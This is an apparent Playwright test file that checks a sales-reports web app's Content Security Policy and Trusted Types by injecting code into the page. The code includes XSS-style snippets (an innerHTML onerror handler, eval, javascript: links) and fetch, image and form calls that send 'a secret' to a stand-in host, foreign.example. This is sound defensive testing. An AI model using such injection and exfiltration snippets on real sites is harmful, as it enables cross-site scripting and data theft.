import type { Page } from '@playwright/test';
import { expect, signIn, test } from '../support/fixtures';
import { ECHO, runInPage } from '../support/injected-code';

const SPOIL = 'window.spoiled = true';
const SINK = 'require-trusted-types-for trusted-types-sink';

/** What code might try once it runs in the page, and the violation by which the browser refuses it. */
const REFUSED_BY_BROWSER: readonly { what: string; code: string; violation: string }[] = [
  {
    what: 'markup from a text',
    code: `document.body.innerHTML = '<img src="x" onerror="${SPOIL}">'`,
    violation: `${SINK} Element innerHTML`,
  },
  {
    what: 'a document from a text',
    code: `new DOMParser().parseFromString('<script>${SPOIL}</script>', 'text/html')`,
    violation: `${SINK} DOMParser parseFromString`,
  },
  {
    what: 'an inline script',
    code: `document.head.append(Object.assign(document.createElement('script'), { textContent: '${SPOIL}' }))`,
    violation: `${SINK} HTMLScriptElement textContent`,
  },
  {
    what: 'an inline handler',
    code: `document.body.setAttribute('onclick', '${SPOIL}'); document.body.click()`,
    // Chromium's versions name the sink differently.
    violation: `${SINK} Element (onclick|setAttribute)`,
  },
  { what: 'eval', code: `eval('${SPOIL}')`, violation: `${SINK} eval` },
  { what: 'a function from a text', code: `new Function('${SPOIL}')()`, violation: `${SINK} Function` },
  { what: 'a timer with a text', code: `setTimeout('${SPOIL}')`, violation: `${SINK} Window setTimeout` },
  {
    what: 'a policy of its own',
    code: `trustedTypes.createPolicy('own', { createHTML: (html) => html })`,
    violation: 'trusted-types trusted-types-policy own',
  },
  {
    what: 'a script behind a link',
    code: `Object.assign(document.createElement('a'), { href: 'javascript:${SPOIL}' }).click()`,
    violation: 'script-src-elem inline',
  },
  {
    what: 'a foreign module',
    code: `import('https://foreign.example/spoil.js')`,
    violation: 'script-src-elem https://foreign.example',
  },
  {
    what: 'a module of this machine',
    code: `import('http://localhost:4001/spoil.js')`,
    violation: 'script-src-elem http://localhost:4001',
  },
  {
    what: 'a call to this machine',
    code: `fetch('http://localhost:4001/', { method: 'POST', body: 'a secret' })`,
    violation: 'connect-src http://localhost:4001',
  },
  {
    what: 'a call to a foreign origin',
    code: `fetch('https://foreign.example/', { method: 'POST', body: 'a secret' })`,
    violation: 'connect-src https://foreign.example',
  },
  {
    what: 'a foreign image',
    code: `new Image().src = 'https://foreign.example/?secret'`,
    violation: 'img-src https://foreign.example',
  },
  {
    what: 'an inline style',
    code: `document.head.append(Object.assign(document.createElement('style'), { textContent: '* { color: red }' }))`,
    violation: 'style-src-elem inline',
  },
  {
    what: 'a frame',
    code: `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://foreign.example/' }))`,
    violation: 'frame-src https://foreign.example',
  },
  {
    what: 'a form sent away',
    code: `const form = document.createElement('form'); form.action = 'https://foreign.example/'; document.body.append(form); form.submit()`,
    violation: 'form-action https://foreign.example',
  },
  {
    what: 'another base for all addresses',
    code: `document.head.append(Object.assign(document.createElement('base'), { href: 'https://foreign.example/' }))`,
    violation: 'base-uri https://foreign.example',
  },
];

/** Addresses of scripts that only the page's own policy refuses, or that it refuses first. */
const REFUSED_BY_POLICY = [
  'https://foreign.example/spoil.js',
  'http://localhost:4001/remoteEntry.js',
  `data:text/javascript,${SPOIL}`,
];

/** Signs in and waits for the first list. */
const open = async (page: Page): Promise<void> => {
  await signIn(page, 'staff');
  await expect(page.getByRole('table', { name: 'Sales reports' })).toBeVisible();
};

/** Whether any of it ran, and whether the list is still there. */
const stateOf = (page: Page) =>
  page.evaluate(() => ({
    spoiled: 'spoiled' in window,
    tables: document.querySelectorAll('table').length,
  }));

test('the browser refuses what injected code would do', async ({ page, problems }) => {
  problems.expect(ECHO);
  await open(page);
  for (const { what, code, violation } of REFUSED_BY_BROWSER) {
    await test.step(what, () => runInPage(page, problems, code, new RegExp(`^violation: ${violation}`)));
  }
  expect(await stateOf(page)).toEqual({ spoiled: false, tables: 1 });
});

test('the page runs no script of an origin that is neither its own nor a section', async ({
  page,
  problems,
}) => {
  await open(page);
  for (const url of REFUSED_BY_POLICY) {
    const code = `document.createElement('script').src = '${url}'`;
    const refusal = new RegExp(`^script: Scripts of ${new URL(url).origin} may not run in this page`);
    await test.step(url, () => runInPage(page, problems, code, refusal));
  }
  expect(await stateOf(page)).toEqual({ spoiled: false, tables: 1 });
});

test('an inline script in the document itself does not run', async ({ page, problems }) => {
  problems.expect(ECHO, /^violation: script-src-elem inline/);
  await page.route('/', async (route) => {
    const response = await route.fetch();
    const text = await response.text();
    await route.fulfill({ response, body: text.replace('<body>', `<body><script>${SPOIL}</script>`) });
  });
  await page.goto('/');
  await expect(page.getByRole('button', { name: 'Login' })).toBeVisible();
  expect(await stateOf(page)).toMatchObject({ spoiled: false });
});
